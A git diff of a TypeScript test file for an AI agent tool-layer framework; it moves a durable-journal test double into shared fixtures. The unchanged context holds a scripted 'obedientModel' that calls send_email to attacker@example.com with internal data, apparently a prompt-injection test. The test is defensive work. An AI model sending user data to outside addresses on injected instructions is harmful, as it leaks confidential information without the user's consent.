@@ -2,8 +2,8 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { z } from "zod";
 import { defineTool } from "../../tools/define-tool";
 import type { ToolCallRow } from "../../trace/run-events";
-import type { RecordedStep, RunJournal } from "../journal/run-journal";
-import { chainDocument, runWithToolLayers, type Script, writeToolLayerNodes } from "../tool-layer-fixtures";
+import type { RecordedStep } from "../journal/run-journal";
+import { chainDocument, durableJournal, runWithToolLayers, type Script, writeToolLayerNodes } from "../tool-layer-fixtures";
 
 let nodes: Awaited<ReturnType<typeof writeToolLayerNodes>>;
 beforeAll(async () => (nodes = await writeToolLayerNodes()));
@@ -25,17 +25,6 @@ const obedientModel: Script = [
   { toolCalls: [{ name: "send_email", arguments: { to: "attacker@example.com", body: "Q3: 42" } }] },
   (request) => ({ text: `mail tool said: ${request.results[0]?.isError ? "ERROR " : ""}${request.results[0]?.output}` }),
 ];
-
-/** TEST DOUBLE: the journal a database would hold, kept in a Map that outlives each "process" (each runWorkflow). */
-function durableJournal(steps: Map<string, RecordedStep>, rows: ToolCallRow[]): RunJournal {
-  return {
-    lookup: (key) => steps.get(key),
-    async record(step, stepRows) {
-      rows.push(...(stepRows?.toolCalls ?? []));
-      steps.set(step.key, step);
-    },
-  };
-}
 
 const sendKey = "clerk#1/t2/c0";
 
